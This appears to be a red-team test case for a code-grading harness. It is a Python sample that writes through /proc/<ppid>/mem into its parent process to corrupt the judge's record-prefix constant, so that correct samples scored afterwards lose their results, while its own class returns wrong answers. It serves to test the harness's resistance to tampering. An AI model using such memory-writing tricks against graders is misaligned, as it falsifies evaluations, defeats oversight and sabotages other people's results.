# redteam: task=py_acc expect=nopass victim=cases/controls/py_acc_correct.py victims=3  (the forked sample writes into its warm zygote's memory through /proc/<ppid>/mem: the record prefix constant of the observer code the zygote compiled once and every later sample reuses becomes "polyeval-judgX"; the correct samples scored after it lose every record)
import os

_target = b"\n\x1epolyeval-judge "
_addr = None
for _cell in __polyeval_observe.__closure__ or ():
    try:
        _v = _cell.cell_contents
    except ValueError:
        continue
    if _v == _target:
        _addr = id(_v)
if _addr is None:
    # the closure of the emitter, one level down
    for _f in (__polyeval_observe, __polyeval_finish):
        for _cell in _f.__closure__ or ():
            try:
                _inner = _cell.cell_contents
            except ValueError:
                continue
            for _c2 in getattr(_inner, "__closure__", None) or ():
                try:
                    if _c2.cell_contents == _target:
                        _addr = id(_c2.cell_contents)
                except ValueError:
                    pass
if _addr is not None:
    try:
        with open("/proc/%d/mem" % os.getppid(), "r+b", buffering=0) as _m:
            _m.seek(_addr + 32)
            _m.write(b"\n\x1epolyeval-judgX ")
    except OSError as _e:
        print("no write:", _e)


class Acc:
    def add(self, a, b):
        return 0

    def greet(self, name):
        return ""
